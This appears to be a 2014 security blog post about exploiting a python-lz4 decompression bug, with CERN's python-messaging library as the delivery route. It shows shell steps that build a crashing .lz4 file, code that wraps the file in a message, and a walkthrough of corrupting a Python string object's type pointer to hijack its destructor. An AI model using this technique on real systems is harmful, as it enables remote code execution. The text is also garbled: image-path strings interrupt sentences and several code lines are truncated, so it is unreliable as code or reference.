Monday, July 7, 2014

Hacking CERN - Exploiting python-lz4 for Particles and Profit


Editor's Note: The TL;DR of this longtechnical report can be summarized as
  • LZ4 was always critically vulnerable whether in Kernel or User-land
  • Exploitation is easy regardless of the attack used (16MB or 2+MB)
  • PoCs are written for python2.7 on 32bit ARM/x86 (scroll to the end)
  • Updating is critical for all consumers of LZ4, notjust python-lz4
Additional Note: The author of LZ4 claims that the PoC presented in the blog below was written against some ghostly alternative version of LZ4. For further proof of exploitation, the sample payload generated by the script at the end of this blog post will also crash python-lz4 (versions prior to r119) directly. The CERN software was simply used as a fun real-world example because their package dependson python-lz4. To test, call the Python bindings directly with:
donb@debian:~/lz4$ ./
donb@debian:~/lz4$ printf "\x00\x10\x00\x00" > header.lz4
donb@debian:~/lz4$ cat header.lz4 test.lz4 > exploit.lz4
donb@debian:~/lz4$ulimit -c unlimited
donb@debian:~/lz4$ python
Python 2.7.3 (default, Mar 14 2014, 11:57:14)
[GCC 4.7.2] on linux2
Type "help", "copyright", "credits" or "license" for more information.
>>> import lz4
>>> f = open("./exploit.lz4")
>>> lz4.uncompress(
Segmentation fault (core dumped)

A Race Lost Before It Began

Obviously the LZ4 issue has gotten a lot of attention, but unfortunately for the wrong reasons. A side effect of the negative reaction from the author of LZ4 is that some packages dependent on the compression algorithm thought that there was little reason to update. This led to some packages (like java-lz4) to update quickly, while others (like python-lz4) were left behind.

Speaking with the python-lz4maintainer, Steeve Morin (@steeve), revealed that he is actually a pretty good guy. Once he learned that there are real and tangible security issues with LZ4, he immediately got to work on a patch. The checkin for the r119 update isnow available for here. I want to emphasize that once Steeve understood the security impact, he got to work straight away. This is a great example of vendor response, even if the vendor's perception was previously tainted by misinformation.

Block Size What?It's understandable that a lot of packages will want to adhere to the LZ4 "standards" and maintain a semblance of block sizes. This is a lot less interesting for higher level languages (HLL) such as Python, Erlang, or even Java, where APIs simply ingest data and pass it along to and from lower layer libraries. The libraries are expected to adhere to the brunt of the standard. This makes HLL code, in many cases (read: most), simply data proxies.

There are many, many examples of this trend online. A quick search on github/etc will show countless packages that use algorithms such as python-lz4 in ways that violate an implied or documented "standard". Since I have no interest in developing a proof of concept for every python package out there, I picked one that looked like fun.

(Re?)Introducing CERN's Messaging Library

In 2013, CERN MIG released some elegant Python messaging APIs built around abstractions that use AMQP, such as RabbitMQ and similar projects. These projects are used to build and implement a distributed Enterprise Messaging System that can traffic data at high speeds across network nodes. The elasticity of this system makes it extremely easy to manage expansion across servers and data-centers.

EDITOR'S NOTEThe author of LZ4 is spreading more incorrect information onhis blog, claiming that CERN uses a custom version of LZ4. This is False. CERN's python-messaging package uses python-lz4 by default, the very package the LZ4 author claims cannot be attacked.

One cool subproject is python-messaging. This package can be used to build or inspect messages that may then be sent to a messaging queue, such as DirQ. One cool aspect of this package is that it can automatically handle the compression and base64 encoding of data. This means that python-message can be used to send a single message to potentially thousands of target systems through a single queue. Since python-messaging incorporates LZ4 by default, all of these endpoints are potentially exploitable.

A message in python-messaging can be constructed using simple dictionaries. To get the module to parse a JSON message that has been translated into a Python dict, we have to adhere to the requirements in the dejsonify function. Let's check out line 296 of below.

def dejsonify(obj):
    """ Returns a message from json structure. """
    is_text = False
        if obj.get('text'):
            is_text = True
    except AttributeError:
        raise MessageError("dict expected: %s" % obj)
    header = obj.get('header', dict())
    body = obj.get('body', DEFAULT_BODY)
    encoding = list()
    o_encoding = obj.get('encoding')if o_encoding:
        encoding = o_encoding.split('+')
        if not is_bytes(body):
            body = body.encode()
    for token in encoding:
        if token not in AVAILABLE_DECODING:
            raise MessageError("decoding not supported: %s" % token)
        elif (token in COMPRESSORS_SUPPORTED and token not in COMPRESSORS):
            raise MessageError("decoding supported but not installed: %s" %
    if 'base64' in encoding:
        body = base64.b64decode(body)
    for method in _COMPRESSORS:
        if method in encoding:
            body = _COMPRESSORS[method].uncompress(body)
    if 'utf8' in encoding:
        body = body.decode('utf-8')
    if is_bytes(body):
        if is_text:
            body = body.decode()
    elif not is_text:
        body = body.encode()

    return Message(body, header)In the code above, there are a few things we have to do to get to the "uncompress()" function at the bottom. They're simple:
  • Add an empty header (dict)
  • Add a body with binary data
  • Define an encoding that specifies one or more encodings, optionally separated by '+'
This equates to the following Python2 code:

from messaging import message as M
f = open("./exploit.lz4")
d =
j = {'header': {}, 'body': d, 'encoding': 'lz4+utf8'}

So now we can see that the LZ4 uncompress function can be called very easily with CERN's python-messaging API. Implementing a full blown RabbitMQ system would be fun here, but that is overkill. It is enough to attack LZ4 through the CERN software as a demonstration of RCE. If you are able to send this simple message into a queue like DirQ, then you have already won.

But, my goal wasn't to simply attack CERN's software. That would be fun, but kind of useless. Why attack one package when you can instead attack any package using python-lz4? That sounds like a lot more fun.

A Snake Bites Its Tail

It is quite easy to gain remote code execution in Python2 via memory corruption, especially if you can write to memory just before the start of an Object's buffer space. This is precisely what happens with the LZ4 bug. Since there are no memory or buffer size constraints in the CERN python-messaging package, we'll use the 16MB attack to easily point to memory prior to the start of the decompression buffer.

Let's take a look at the Python bindings in python-lz4. You can follow along here

    dest_size = load_le32(source);
    if (dest_size > INT_MAX) {
        PyErr_Format(PyExc_ValueError, "invalid size in header: 0x%x", dest_size);
        return NULL;
    result = PyBytes_FromStringAndSize(NULL, dest_size);
    if (result != NULL && dest_size > 0) {
        char *dest =PyBytes_AS_STRING(result);
        int osize = LZ4_decompress_safe(source + hdr_size, dest, source_size - hdr_size, dest_size);

As can be seen above, a four byte little-endian header must be placed at the start of the LZ4 payload. This value represents the size of the decompressed data. We can use almost any value here, but I choose (1024 * 1024) for simplicity.

Line 115 calls the function PyBytes_FromStringAndSize, creating a PyObject that represents a PyString_Type object. The entire PyObject, with its header values and other objects, is allocated. A buffer size of 'dest_size' is allocated within this PyObject. This is where Python willevaluate the decompressed LZ4 payload when the Python bindings return.

Line 117 contains an important call to PyBytes_AS_STRING. This function returns a C style pointer to the memory buffer Python has allocated as scratch space. In other words, the address returned is an address that points to memory that can be written to by the LZ4 code. This should be a safe place to store data.

To understand how this works, let's take a look at the Python source code. Because systems like Debian are using a back-patched version of 2.7, we'll focus on the 2.7 branch on github so readers can easily follow long.

PyBytes_AS_STRING is defined as the macro PyString_AS_STRING. This macro is defined in Include/stringobject.h and simply returns the address of 'ob_sval'. So what is ob_sval? That depends on the structure PyStringObject. Let's take a look.

typedef struct {
    long ob_shash;
    int ob_sstate;
    char ob_sval[1];

    /* Invariants:
     *     ob_sval contains space for 'ob_size+1' elements.
     *     ob_sval[ob_size] == 0.*     ob_shash is the hash of the string or -1 if not computed yet.
     *     ob_sstate != 0 iff the string object is in stringobject.c's
     *       'interned' dictionary; in this case the two references
     *       from 'interned' to this object are *not counted* in ob_refcnt.
} PyStringObject;

On line 35, shown above, we can see the definition of a PyStringObject. The structure member 'ob_sval' has a form that is typical of "unfinished structures" in the C language. Essentially, an object with a size of [1] at the end of a structure implies that the structure will be extended at this point. In other words, the address of ob_sval (&ob_sval[0]) is the start to the writable memory buffer to be used in C code.

To make this more clear, here is an example memory allocation. If you wanted to store the string "Hello" in a PyStringObject, you would use thefollowing code:

int size = strlen("Hello") + 1;
char * ptr;
PyStringObject * string;
string = malloc(sizeof(*string) + size);
ptr = &string->ob_sval[0];
memcpy(ptr, "Hello", size);

This way, the Object maintains its requisite form that includes standard Python PyObject header values, while being capable of storing type specific data. This is a weak form of type inheritance often used in C.

So let's look back at the python-lz4 code to see why this information is important.

        char *dest = PyBytes_AS_STRING(result);
        int osize = LZ4_decompress_safe(source + hdr_size, dest, source_size - hdr_size, dest_size);

Now, in looking at the above code, we realize that the address 'dest' points to an address within the actual PyStringObject structure. This means that if we can point to slightly before the address stored in 'dest', we can overwrite critical values in the PyStringObject header.

Most importantly, we can overwrite the core header values within PyStringObject. These values are defined with the macro PyObject_VAR_HEAD, as seen in the code snippet above. Tracing the multiple layers of definitions for PyObject_VAR_HEAD leads us to the core values in a PyObjectstructure, defined with the macro PyObject_HEAD found on line 77 of this file

/* PyObject_HEAD defines the initial segment of every PyObject. */
#define PyObject_HEAD                   \
    _PyObject_HEAD_EXTRA                \
    Py_ssize_tob_refcnt;               \
    struct _typeobject *ob_type;

The macro _PyObject_HEAD_EXTRA is only defined if tracing is enabled, which it shouldn't be on your distribution unless you have a custom variant. So, the first variable to be set in a PyObject (or PyStringObject) structure is 'ob_refcnt', followed by 'ob_type'.

Type Confusion In C

The variable we'll focus on here is 'ob_type'. Why? This is the variable that defines what type of structure is held within a PyObject. This is where the weird (unholy?) dynamic type system of C comes in. This variable basically indicates how the C code should interpret the rest of the structure after the 'ob_type' variable. In the caseof a string, the variable 'ob_type' will point to PyString_Type.

Now, PyString_Type is of the type PyTypeObject, another base structure similar to PyObject, except more detailed. It's important to note that like PyObject, it shares the same base header values defined by PyObject_VAR_HEAD. Even more important is the fact that PyTypeObject is a structure that contains multiple function pointers, such as tp_dealloc, the function that will be called when an Object is no longer used. Check out the structure on line 324 of this file

typedef struct _typeobject {
    const char *tp_name; /* For printing, in format "." */
    Py_ssize_t tp_basicsize, tp_itemsize; /* For allocation */

    /* Methods to implement standard operations */

    destructor tp_dealloc;

As depicted above, if we can corrupt memory and overwrite the PyStringObject's ob_type variable, we can point it to a different object than to PyString_Type. This means that, potentially, we can call a function of our choice.

But, this doesn't give us straight up code execution, does it? No, it doesn't. This is because we have no idea where in memory our payload resides due to ASLR and other subtleties of the heap allocation system. As a result, we can't simply point back into our own buffer. We have to get a bit creative.

Keep in mind that even though we can overwrite an address to an Object that contains a pointer, that doesn't get us much. Because of ASLR and the requirement of using a specific address offset from the base of an Object in memory, we don't have many valid choices. This means that we are going to have to dig into the Python base executable to identify asecondary function to attack.

We know that when the garbage collector tries to deallocate our Object, the Object's base address will be passed to the tp_dealloc destructor function. What we need to do is figure out where in the Python code base is an object with a function that will use our payload as a place to retrieve other function pointers.

Since we know we can overwrite the PyStringObject.ob_type variable using the LZ4 bug, let's find a function in Python that will do our bidding. Remember, python is not PIE on most systems. You can check this by executing the following:

donb@mouse:~$ readelf -h /usr/bin/python2.7
ELF Header:
  Magic:   7f 45 4c 46 02 01 01 00 00 00 00 00 00 00 00 00
  Class:                             ELF64
  Data:                              2's complement, little endian
  Version:                           1 (current)
  OS/ABI:                            UNIX - System V
  ABI Version:                       0
  Type:                              EXEC (Executable file)

If the above Type is "EXEC" and not "DYN", you're golden. This should be true even of recent Ubuntu systems, Debian, Mint, etc.

